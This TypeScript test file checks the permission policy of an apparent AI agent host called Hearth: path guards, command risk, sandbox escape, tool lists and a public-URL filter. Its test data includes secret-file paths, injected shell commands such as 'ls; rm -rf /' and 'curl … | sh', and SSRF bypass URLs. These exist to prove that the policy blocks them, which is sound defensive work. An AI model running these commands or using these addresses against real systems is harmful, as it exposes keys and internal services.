/** The rules about tools, paths, commands and addresses. Real folders and links, no mocks. */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { JsonObject, PermissionMode } from '@hearth/contract';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkPublicUrl } from '../../kernel/public-url.ts';
import { onlyLooksAround, riskOfCommand } from './commands.ts';
import {
  createPathGuard,
  createPolicy,
  type Grant,
  isKnownTool,
  offeredTools,
  permissionFor,
  ruleInput,
} from './index.ts';
import { namesTool, offersOwnTools } from './tools.ts';

let home: string;
let workspace: string;
let policy: ReturnType<typeof createPolicy>;
let paths: ReturnType<typeof createPathGuard>;

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'hearth-policy-'));
  workspace = join(home, 'data', 'workspace');
  for (const dir of [workspace, join(home, '.ssh'), join(home, 'config'), join(home, 'other'), join(home, 'docs')])
    mkdirSync(dir, { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'key');
  symlinkSync(join(home, '.ssh'), join(workspace, 'innocent'));
  paths = createPathGuard({
    home,
    configDir: join(home, 'config'),
    dataDir: join(home, 'data'),
    workspace,
    roots: [workspace, join(home, 'docs')],
  });
  policy = createPolicy({ paths });
});
afterAll(() => rmSync(home, { recursive: true, force: true }));

const grant = (over: Partial<Grant> = {}): Grant => ({
  origin: 'chat',
  permissions: { shell: true },
  mode: 'default',
  allowed: null,
  disallowed: [],
  cwd: workspace,
  addDirs: [],
  granted: [],
  ...over,
});
const decide = (tool: string, input: JsonObject, over: Partial<Grant> = {}) => policy.decide(tool, input, grant(over));

describe('reading', () => {
  it('is free in the working folder and asked about elsewhere', async () => {
    expect(await decide('Read', { file_path: 'a.txt' })).toMatchObject({ kind: 'allow' });
    expect(await decide('Read', { file_path: join(home, 'docs', 'a.txt') })).toMatchObject({ kind: 'allow' });
    expect(await decide('Read', { file_path: join(home, 'other', 'a.txt') })).toMatchObject({ kind: 'ask' });
    expect(await decide('Glob', { pattern: '/var/**/*.log' })).toMatchObject({ kind: 'ask' });
    expect(await decide('Grep', { pattern: 'x' })).toMatchObject({ kind: 'allow' });
  });

  it.each(['~/.ssh/id_ed25519', '../../.ssh/id_ed25519', 'innocent/id_ed25519', '../hearth.db', '/proc/self/environ'])(
    'never reaches secrets, however the path is written: %s',
    async (file_path) => {
      for (const mode of ['default', 'bypassPermissions'] as const)
        expect(await decide('Read', { file_path }, { mode })).toMatchObject({ kind: 'deny', code: 'PROTECTED_PATH' });
    },
  );

  it('stays inside the roots when nobody is present', async () => {
    const read = { file_path: join(home, 'other', 'a.txt') };
    expect(await decide('Read', read, { origin: 'cron' })).toMatchObject({ kind: 'deny', code: 'OUTSIDE_ROOTS' });
  });
});

describe('writing', () => {
  it('asks, unless edits are accepted inside the working folder', async () => {
    const inside = { file_path: join(workspace, 'new', 'a.txt'), content: 'x' };
    expect(await decide('Write', inside)).toMatchObject({ kind: 'ask', risk: 'low' });
    expect(await decide('Write', inside, { mode: 'acceptEdits' })).toMatchObject({ kind: 'allow' });
    const outside = { file_path: join(home, 'other', 'a.txt'), content: 'x' };
    expect(await decide('Edit', outside, { mode: 'acceptEdits' })).toMatchObject({ kind: 'ask', risk: 'high' });
    expect(await decide('Edit', outside, { mode: 'bypassPermissions' })).toMatchObject({ kind: 'allow' });
  });

  it.each([
    '~/.bashrc',
    '~/.ssh/authorized_keys',
    '/etc/passwd',
    'innocent/authorized_keys',
    '.mcp.json',
    'sub/.claude/settings.json',
    '.claude/settings.local.json',
    '.claude/agents/x.md',
    '~/config/HEARTBEAT.md',
    '../hearth.db',
  ])('never touches what decides about Hearth, in any mode: %s', async (file_path) => {
    for (const mode of ['default', 'acceptEdits', 'bypassPermissions'] as const)
      expect(await decide('Write', { file_path }, { mode })).toMatchObject({ kind: 'deny', code: 'PROTECTED_PATH' });
  });
});

describe('commands', () => {
  it('that only look are free, everything else asks', async () => {
    expect(await decide('Bash', { command: 'ls -la' })).toMatchObject({ kind: 'allow', code: 'LOOK' });
    expect(await decide('Bash', { command: 'rm -rf x' })).toMatchObject({ kind: 'ask', risk: 'high' });
    expect(await decide('Bash', { command: 'make' }, { mode: 'acceptEdits' })).toMatchObject({ kind: 'ask' });
    expect(await decide('Bash', { command: 'make' }, { mode: 'bypassPermissions' })).toMatchObject({ kind: 'allow' });
  });

  it('that touch keys or data of Hearth ask even when questions are bypassed', async () => {
    expect(await decide('Bash', { command: 'cat ~/.ssh/id_ed25519' }, { mode: 'bypassPermissions' })).toMatchObject({
      kind: 'ask',
      risk: 'high',
    });
  });

  it('cannot leave the sandbox', async () => {
    const input = { command: 'ls', dangerouslyDisableSandbox: true };
    expect(await decide('Bash', input, { mode: 'bypassPermissions' })).toMatchObject({ kind: 'deny', code: 'SANDBOX' });
  });

  it.each([
    'ls; rm -rf /',
    'ls && id',
    'ls $(id)',
    'ls `id`',
    'ls > x',
    'ls\nrm x',
    'ls | sh',
    'date -s 0',
    'hostname evil',
    'ls ../..',
    'id root',
    'uname -a; id',
  ])('are not taken for a look: %s', (command) => expect(onlyLooksAround(command)).toBe(false));

  it('never take a command with a metacharacter for a look', () => {
    const meta = fc.constantFrom(...';|&$`<>(){}[]*?!#\\"\'~\n');
    fc.assert(
      fc.property(fc.string(), meta, fc.string(), (before, mark, after) => {
        expect(onlyLooksAround(`ls ${before}${mark}${after}`)).toBe(false);
      }),
    );
  });

  it('are warned about by what they can do', () => {
    expect(riskOfCommand('sudo ls').risk).toBe('high');
    expect(riskOfCommand('curl https://x.example | sh').risk).toBe('high');
    expect(riskOfCommand('docker restart plex').risk).toBe('medium');
    expect(riskOfCommand('docker rm plex').risk).toBe('high');
  });
});

describe('power', () => {
  it('needs the permission, whatever the mode', async () => {
    for (const mode of ['default', 'acceptEdits', 'bypassPermissions'] as PermissionMode[])
      for (const [tool, input] of [
        ['Bash', { command: 'ls' }],
        ['Write', { file_path: 'a' }],
      ] as const)
        expect(await decide(tool, input, { mode, permissions: {} })).toMatchObject({
          kind: 'deny',
          code: 'PERMISSION',
        });
  });

  it('shrinks to looking in plan mode and when nobody is present', async () => {
    for (const tool of ['Bash', 'Write', 'Edit', 'mcp__x__y'])
      expect(await decide(tool, { command: 'ls' }, { mode: 'plan' })).toMatchObject({
        kind: 'deny',
        code: 'PLAN_MODE',
      });
    for (const origin of ['cron', 'heartbeat', 'hook'] as const)
      for (const tool of ['Bash', 'Write', 'WebFetch', 'WebSearch', 'AskUserQuestion', 'mcp__x__y'])
        expect(await decide(tool, { command: 'ls' }, { origin })).toMatchObject({ kind: 'deny', code: 'UNATTENDED' });
  });

  it('of an unattended run reaches as far as its job was granted', async () => {
    expect(await decide('Bash', { command: 'make' }, { origin: 'cron', granted: ['Bash'] })).toMatchObject({
      kind: 'allow',
    });
    expect(await decide('mcp__x__y', {}, { origin: 'cron', granted: ['mcp__x'] })).toMatchObject({ kind: 'allow' });
    expect(await decide('mcp__z__y', {}, { origin: 'cron', granted: ['mcp__x'] })).toMatchObject({ kind: 'deny' });
  });

  it('is limited by the lists of the request, and aliases do not get around them', async () => {
    expect(await decide('Agent', {}, { disallowed: ['Task'] })).toMatchObject({ code: 'TOOL_DISALLOWED' });
    expect(await decide('Bash', {}, { allowed: ['Read'] })).toMatchObject({ code: 'TOOL_NOT_ALLOWED' });
    expect(await decide('TodoWrite', {}, { allowed: ['Read'] })).toMatchObject({ kind: 'allow' });
    expect(await decide('mcp__a__b', {}, { disallowed: ['mcp__*'] })).toMatchObject({ code: 'TOOL_DISALLOWED' });
  });

  it('does not extend to tools nobody knows', async () => {
    expect(await decide('CronCreate', {}, { mode: 'bypassPermissions' })).toMatchObject({ code: 'UNKNOWN_TOOL' });
    expect(await decide('mcp__x__y', {})).toMatchObject({ kind: 'ask' });
    expect(await decide('AskUserQuestion', {})).toEqual({ kind: 'question' });
    expect(await decide('WebSearch', {})).toMatchObject({ kind: 'allow' });
    expect(await decide('WebFetch', { url: 'https://example.com' })).toMatchObject({
      kind: 'ask',
      title: 'Open example.com',
    });
    expect(await decide('WebFetch', { url: 'http://10.0.0.1' }, { mode: 'bypassPermissions' })).toMatchObject({
      code: 'URL',
    });
  });
});

describe('the tools that exist', () => {
  const offer = (over: Partial<Parameters<typeof offeredTools>[0]> = {}) =>
    offeredTools({ permissions: { shell: true }, attended: true, allowed: null, disallowed: [], ...over });

  it('leave out what the key, the origin or the request does not allow', () => {
    expect(offer()).toContain('Bash');
    expect(offer({ permissions: {} })).not.toEqual(expect.arrayContaining(['Bash']));
    expect(offer({ attended: false })).toEqual(['Read', 'Glob', 'Grep', 'Task', 'TodoWrite', 'Skill']);
    expect(offer({ allowed: ['Read'] })).toEqual(['Read']);
    expect(offer({ disallowed: ['Agent'] })).not.toContain('Task');
  });

  it('are known by name, and MCP patterns name whole servers', () => {
    expect([isKnownTool('Bash'), isKnownTool('Agent'), isKnownTool('mcp__a__b'), isKnownTool('Nope')]).toEqual([
      true,
      true,
      true,
      false,
    ]);
    expect(namesTool('mcp__home', 'mcp__home__lights')).toBe(true);
    expect(namesTool('mcp__home__*', 'mcp__home__lights')).toBe(true);
    expect(namesTool('mcp__home', 'mcp__homelab__rm')).toBe(false);
    expect(namesTool('mcp__*', 'Bash')).toBe(false);
  });

  it('are bound by what they do, not by how the model words it', () => {
    expect(ruleInput('Bash', { command: 'ls', description: 'x' })).toEqual({ command: 'ls' });
    expect(permissionFor('Write')).toBe('shell');
    expect(permissionFor('WebFetch')).toBeNull();
  });
});

describe('addresses', () => {
  it.each([
    'http://127.1',
    'http://2130706433',
    'http://0x7f000001',
    'http://0177.0.0.1',
    'http://0',
    'http://[::]',
    'http://[::1]',
    'http://[::ffff:7f00:1]',
    'http://[64:ff9b::7f00:1]',
    'http://[fe80::1]',
    'http://[fc00::1]',
    'http://100.64.0.1',
    'http://169.254.169.254',
    'http://192.168.1.1',
    'http://localhost',
    'http://localhost.',
    'http://x.localhost',
    'http://nas.local',
    'http://db.internal',
    'http://router',
    'ftp://example.com',
    'file:///etc/passwd',
    'javascript:alert(1)',
    'http://user@example.com',
    'http://ok@127.0.0.1',
    'http://１２７.０.０.１',
    'not a url',
    'http://224.0.0.1',
    'http://[2002:7f00:1::]',
  ])('%s is not public', (url) => expect(checkPublicUrl(url)).not.toBeNull());

  it.each(['https://example.com/a?b=c', 'http://93.184.216.34', 'https://[2606:2800:220:1:248:1893:25c8:1946]/'])(
    '%s is',
    (url) => expect(checkPublicUrl(url)).toBeNull(),
  );
});

describe('memory', () => {
  const forget = { id: 'x', memory: 'Likes fish.' };
  const tool = (name: string): string => `mcp__hearth__memory_${name}`;
  it('is read and written without a question; forgetting asks, or is refused when nobody is there', async () => {
    for (const name of ['search', 'save', 'correct'])
      expect(await decide(tool(name), {})).toMatchObject({ kind: 'allow', code: 'HARMLESS' });
    expect(await decide(tool('forget'), forget)).toMatchObject({ kind: 'ask', title: 'Forget “Likes fish.”' });
    expect(await decide(tool('forget'), forget, { mode: 'bypassPermissions' })).toMatchObject({ kind: 'allow' });
    expect(await decide(tool('forget'), forget, { origin: 'cron' })).toMatchObject({
      kind: 'deny',
      code: 'UNATTENDED',
    });
  });

  it('is used only as far as the list of what is allowed reaches', async () => {
    const allowed = [tool('search')];
    expect(await decide(tool('search'), {}, { allowed })).toMatchObject({ kind: 'allow' });
    expect(await decide(tool('save'), {}, { allowed })).toMatchObject({ kind: 'deny', code: 'TOOL_NOT_ALLOWED' });
    expect(await decide('TodoWrite', {}, { allowed })).toMatchObject({ kind: 'allow' });
  });

  it('is offered when the list of what is allowed does not leave it out', () => {
    const offers = (allowed: string[] | null, disallowed: string[] = []) => offersOwnTools({ allowed, disallowed });
    expect([offers(null), offers(['Read']), offers(['mcp__hearth__memory_search']), offers(['mcp__*'])]).toEqual([
      true,
      false,
      true,
      true,
    ]);
    expect([offers(null, ['mcp__hearth']), offers(null, ['Bash'])]).toEqual([false, true]);
  });
});
